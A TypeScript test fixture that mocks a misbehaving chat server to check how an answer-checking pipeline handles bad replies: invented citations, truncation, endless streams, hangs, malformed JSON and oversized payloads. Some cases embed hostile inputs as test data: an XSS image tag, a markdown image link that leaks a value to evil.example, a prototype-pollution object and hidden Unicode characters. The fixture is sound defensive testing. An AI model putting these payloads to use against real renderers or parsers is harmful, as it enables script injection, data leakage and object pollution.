import type { ServerResponse } from 'node:http';
import type { Handler } from '../../../libs/inference/src/testing/local-server.ts';

type Shown = { question: string; quotes: { n: number; text: string }[] };
type Claim = { text: string; quotes: unknown };

/** How a chat server goes wrong, and what the answer then has to say. */
export type Misbehaviour = {
  name: string;
  reply: (response: ServerResponse, shown: Shown) => void;
  /** What of the degraded steps tells of it; undefined where the answer may be the model's. */
  told?: RegExp;
  /** Whether the model gave nothing that could be used. */
  isLost?: true;
};

/** The quotes and the question that a request shows the model. */
export const handlerOf =
  ({ reply }: Misbehaviour): Handler =>
  (_request, response, body) => {
    const { messages } = JSON.parse(body) as { messages: { content: string }[] };
    reply(response, JSON.parse(messages.at(-1)?.content ?? '{}') as Shown);
  };

function completion(content: unknown, finish = 'stop', usage = { prompt_tokens: 300, completion_tokens: 40 }): string {
  return JSON.stringify({
    id: 'x',
    object: 'chat.completion',
    choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: finish }],
    usage,
  });
}

const send = (response: ServerResponse, body: string, status = 200): void => {
  response.writeHead(status, { 'content-type': 'application/json' }).end(body);
};

const claims = (...all: Claim[]): string => JSON.stringify({ answered: true, claims: all });
const says =
  (content: (shown: Shown) => unknown, finish?: string) =>
  (response: ServerResponse, shown: Shown): void =>
    send(response, completion(content(shown), finish));
const only = (text: string): ((response: ServerResponse, shown: Shown) => void) => says(() => text);

/** Sends the same piece for as long as anybody listens. */
function forEver(response: ServerResponse, head: string, piece: string, pauseMs: number): void {
  response.writeHead(200, { 'content-type': 'application/json' }).write(head);
  const timer = setInterval(() => response.write(piece), pauseMs);
  response.once('close', () => clearInterval(timer));
}

const head = completion('').slice(0, completion('').indexOf('"content":"') + '"content":"'.length);
const wrong = 'Argus found 77 supernovae in its first year.';
const nested = (depth: number): string => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

export const misbehaviours: readonly Misbehaviour[] = [
  {
    name: 'cites quotes that it was not shown',
    reply: only(claims({ text: 'Argus found 31 supernovae.', quotes: [99, -1, 0] })),
    told: /No quote supports 1/,
  },
  {
    name: 'cites by names',
    reply: only(claims({ text: 'Argus found 31 supernovae.', quotes: ['first'] })),
    told: /not of the form/,
    isLost: true,
  },
  {
    name: 'cites parts of numbers',
    reply: only(claims({ text: 'Argus found 31 supernovae.', quotes: [1.5] })),
    told: /not of the form/,
    isLost: true,
  },
  {
    name: 'invents a number',
    reply: says(({ quotes }) => claims({ text: wrong, quotes: quotes.map(({ n }) => n) })),
    told: /No quote supports 1/,
  },
  {
    name: 'repeats one claim a hundred times',
    reply: says(({ quotes }) =>
      claims(...Array.from({ length: 100 }, () => ({ text: quotes[0]?.text ?? '', quotes: [1] }))),
    ),
  },
  {
    name: 'repeats one word within a claim',
    reply: only(claims({ text: `Argus ${'found '.repeat(2_000)}`, quotes: [1] })),
    told: /No quote supports 1/,
  },
  {
    name: 'is cut at the limit of tokens',
    reply: says(() => '{"answered": true, "claims": [{"te', 'length'),
    told: /cut at the limit/,
    isLost: true,
  },
  {
    name: 'is cut at the limit amid repetitions of a word',
    reply: says(() => 'the '.repeat(500), 'length'),
    told: /cut at the limit/,
    isLost: true,
  },
  {
    name: 'sends the same word for ever',
    reply: (response) => forEver(response, head, 'the ', 1),
    told: /longer than/,
    isLost: true,
  },
  {
    name: 'sends the same word for ever, and fast',
    reply: (response) => forEver(response, head, 'the '.repeat(250_000), 1),
    told: /longer than/,
    isLost: true,
  },
  {
    name: 'sends spaces before a reply that never comes',
    reply: (response) => forEver(response, '', ' ', 2),
    told: /longer than/,
    isLost: true,
  },
  {
    name: 'dies in mid-stream',
    reply: (response) => {
      response.writeHead(200, { 'content-type': 'application/json' }).write(completion(claims()).slice(0, 80));
      setTimeout(() => response.destroy(), 20);
    },
    told: /server-unreachable/,
    isLost: true,
  },
  { name: 'hangs', reply: () => {}, told: /longer than/, isLost: true },
  {
    name: 'hangs amid its reply',
    reply: (response) => {
      response.writeHead(200, { 'content-type': 'application/json' }).write(head);
    },
    told: /longer than/,
    isLost: true,
  },
  { name: 'closes the connection', reply: (response) => response.destroy(), told: /server-unreachable/, isLost: true },
  {
    name: 'answers in another language',
    reply: only(claims({ text: 'Argus fand in jenem Jahr sehr viele Sternexplosionen.', quotes: [1] })),
    told: /No quote supports 1/,
  },
  {
    name: 'answers in another script',
    reply: only(claims({ text: '望遠鏡は三十一個の超新星を見つけた。', quotes: [1] })),
    told: /No quote supports 1/,
  },
  { name: 'answers an empty object', reply: only('{}'), told: /not of the form/, isLost: true },
  { name: 'answers an empty list', reply: only('[]'), told: /not of the form/, isLost: true },
  { name: 'answers nothing', reply: only(''), told: /not-json/, isLost: true },
  { name: 'answers null', reply: says(() => null), told: /unusable-reply/, isLost: true },
  { name: 'answers prose', reply: only('There were 31 supernovae, I believe.'), told: /not-json/, isLost: true },
  {
    name: 'answers 10 MB in one claim',
    reply: (response) => send(response, completion(claims({ text: 'Argus '.repeat(1_700_000), quotes: [1] }))),
    told: /longer than/,
    isLost: true,
  },
  {
    name: 'answers five thousand claims',
    reply: says(({ quotes }) =>
      claims(...Array.from({ length: 5_000 }, (_, i) => ({ text: `${quotes[0]?.text} ${i}`, quotes: [1] }))),
    ),
    told: /far longer/,
    isLost: true,
  },
  {
    name: 'answers JSON nested 100,000 deep',
    reply: only(nested(100_000)),
    told: /not of the form|not-json|far longer/,
    isLost: true,
  },
  {
    name: 'answers claims nested in claims',
    reply: only(JSON.stringify({ answered: true, claims: [{ text: { text: wrong }, quotes: [[1]] }] })),
    told: /not of the form/,
    isLost: true,
  },
  { name: 'says that nothing answers, though a quote does', reply: only('{"answered": false, "claims": []}') },
  {
    name: 'sends a page',
    reply: (response) => void response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>Sign in</h1>'),
    told: /unusable-reply/,
    isLost: true,
  },
  {
    name: 'fails',
    reply: (response) => send(response, '{"error":{"message":"out of memory"}}', 500),
    told: /server-failed/,
    isLost: true,
  },
  {
    name: 'refuses the request as too long',
    reply: (response) => send(response, '{"error":{"message":"context length exceeded"}}', 400),
    told: /request-refused/,
    isLost: true,
  },
  {
    name: 'sends markup',
    reply: says(({ quotes }) => claims({ text: `<img src=x onerror=alert(1)> ${quotes[0]?.text}`, quotes: [1] })),
    told: /No quote supports 1/,
  },
  {
    name: 'sends a link to elsewhere',
    reply: says(({ quotes }) => claims({ text: `${quotes[0]?.text} ![x](https://evil.example/?q=31)`, quotes: [1] })),
    told: /No quote supports 1/,
  },
  {
    name: 'hides letters within a claim',
    reply: says(({ quotes }) => claims({ text: `${quotes[0]?.text}\u202e\u200b\u{e0041}`, quotes: [1] })),
  },
  {
    name: 'alters a quote',
    reply: says(({ quotes }) =>
      JSON.stringify({
        answered: true,
        claims: [{ text: quotes[0]?.text, quotes: [1], quote: wrong }],
        quotes: [{ n: 1, text: wrong }],
      }),
    ),
  },
  {
    name: 'keeps other keys of JavaScript',
    reply: only('{"answered":true,"claims":[],"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}'),
  },
  {
    name: 'says that it took a million tokens',
    reply: (response, { quotes }) =>
      send(
        response,
        completion(claims({ text: quotes[0]?.text ?? '', quotes: [1] }), 'stop', {
          prompt_tokens: 1_000_000,
          completion_tokens: 1,
        }),
      ),
  },
];
